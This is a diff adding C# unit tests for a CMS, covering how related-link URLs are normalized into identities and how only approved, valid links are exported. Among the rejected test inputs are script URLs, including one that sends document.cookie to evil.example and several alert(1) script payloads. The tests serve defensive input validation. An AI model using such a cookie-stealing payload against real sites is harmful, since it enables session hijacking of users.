@@ -1,0 +1,108 @@
+using Cms.Core.FrontMatter;
+using Cms.Core.Items;
+
+namespace Cms.Core.Tests;
+
+// A related link is its normalized webUrl: what may change without making it another link, and
+// what may not.
+public sealed class LinkIdentityTests
+{
+    [Theory]
+    [InlineData("https://www.reuters.com/world/a", "https://www.reuters.com/world/a")]
+    [InlineData("HTTPS://WWW.Reuters.COM/world/a", "https://www.reuters.com/world/a")]
+    [InlineData("https://www.reuters.com:443/world/a", "https://www.reuters.com/world/a")]
+    [InlineData("http://www.reuters.com:80/world/a", "http://www.reuters.com/world/a")]
+    [InlineData("https://www.reuters.com", "https://www.reuters.com/")]
+    [InlineData("https://www.reuters.com/world/../world/a", "https://www.reuters.com/world/a")]
+    [InlineData("https://bücher.example/a", "https://xn--bcher-kva.example/a")]
+    [InlineData("https://news.example/caf\u00e9", "https://news.example/caf%C3%A9")]
+    public void Scheme_host_default_port_empty_path_and_encoding_do_not_make_another_link(string url, string identity) =>
+        Assert.Equal(identity, LinkIdentity.Of(url));
+
+    [Theory]
+    [InlineData("https://news.example/a", "https://news.example/a/")]
+    [InlineData("https://news.example/a", "https://news.example/A")]
+    [InlineData("https://news.example/story?id=1", "https://news.example/story?id=2")]
+    [InlineData("https://news.example/story?id=1", "https://news.example/story")]
+    [InlineData("https://news.example/a", "https://news.example/a#:~:text=hoax")]
+    [InlineData("https://news.example/a", "http://news.example/a")]
+    [InlineData("https://news.example/a", "https://news.example:8443/a")]
+    [InlineData("https://news.example/a", "https://www.news.example/a")]
+    public void Path_case_trailing_slash_query_fragment_scheme_port_and_host_do(string one, string other) =>
+        Assert.NotEqual(LinkIdentity.Of(one), LinkIdentity.Of(other));
+
+    [Theory]
+    [InlineData(null)]
+    [InlineData("")]
+    [InlineData("javascript:fetch('https://evil.example/?c='+document.cookie)")]
+    [InlineData("data:text/html,<script>alert(1)</script>")]
+    [InlineData("/relative/path")]
+    [InlineData("//news.example/protocol-relative")]
+    [InlineData("ftp://news.example/a")]
+    [InlineData("mailto:desk@news.example")]
+    [InlineData("https://news.example/a\nb")]
+    [InlineData("https://news.example/\u0000")]
+    public void A_value_that_is_not_an_absolute_http_url_on_one_clean_line_has_no_identity(string? url) =>
+        Assert.Null(LinkIdentity.Of(url));
+
+    [Fact]
+    public void The_item_url_uses_the_same_normalizer_without_the_fragment()
+    {
+        Assert.True(UrlRules.IsAbsoluteHttp("HTTPS://News.Example:443/a?id=1#top", out var uri));
+
+        Assert.Equal("https://news.example/a?id=1", UrlRules.NormalizeOriginalUrl(uri!));
+        Assert.Equal("https://news.example/a?id=1#top", LinkIdentity.Of("HTTPS://News.Example:443/a?id=1#top"));
+    }
+
+    [Fact]
+    public void Of_two_entries_with_one_url_the_first_is_the_link_and_the_second_has_none()
+    {
+        var assigned = LinkIdentity.Assign(["https://a.example/1", null, "https://b.example/2", "https://a.example/1"]);
+
+        Assert.Equal([("https://a.example/1", null), (null, null), ("https://b.example/2", null), (null, 0)], assigned);
+    }
+
+    [Fact]
+    public void The_parser_gives_each_related_entry_its_identity_and_names_a_duplicate()
+    {
+        var yaml = ItemYaml.Valid().Related(
+            ItemYaml.Link("title", "first") + "\n" + ItemYaml.Link("webUrl", "https://A.example:443/1"),
+            ItemYaml.Link("title", "script") + "\n" + ItemYaml.Link("webUrl", "javascript:alert(1)"),
+            ItemYaml.Link("title", "again") + "\n" + ItemYaml.Link("webUrl", "https://a.example/1"));
+
+        var item = new ItemParser(new YamlFrontMatterReader()).Parse("in/001_x.txt", yaml.ToBytes());
+
+        Assert.Equal([("https://a.example/1", null), (null, null), (null, 0)], item.Related.Select(r => (r.Identity, r.DuplicateOf)));
+    }
+}
+
+// The output keeps the related entries whose identity was approved, whatever their positions.
+public sealed class ApprovedLinksExportTests
+{
+    private readonly YamlFrontMatterReader _reader = new();
+
+    private SourceMapping Source(params string[] urls) => _reader.ReadText("a",
+        "---\ntitle: t\noriginalUrl: \"https://e.com/a\"\nrelated:\n"
+        + string.Concat(urls.Select((u, i) => $"  - title: \"link {i}\"\n    webUrl: \"{u}\"\n")) + "---\n").Root;
+
+    private static List<string> Published(SourceMapping source, params string[] approved) =>
+        ((SourceSequence)ItemExport.Apply(source, new ItemEdits(WorkflowState.Ready, true, null, null, [], approved.ToHashSet()))["related"]!)
+            .Items.Cast<SourceMapping>().Select(m => ((SourceScalar)m["webUrl"]!).Value).ToList();
+
+    [Fact]
+    public void Reordered_entries_publish_the_approved_links_by_url_never_by_position()
+    {
+        var source = Source("https://propaganda.example/x", "https://a.example/1", "https://c.example/3");
+
+        Assert.Equal(["https://a.example/1", "https://c.example/3"], Published(source, "https://a.example/1", "https://c.example/3"));
+    }
+
+    [Fact]
+    public void An_entry_without_an_identity_or_a_second_entry_with_one_url_is_never_published()
+    {
+        var source = Source("javascript:alert(1)", "https://A.example:443/1", "https://a.example/1", "https://b.example/2");
+
+        // Even an approval set naming the script could not publish it: it has no identity.
+        Assert.Equal(["https://A.example:443/1"], Published(source, "https://a.example/1", "javascript:alert(1)"));
+    }
+}
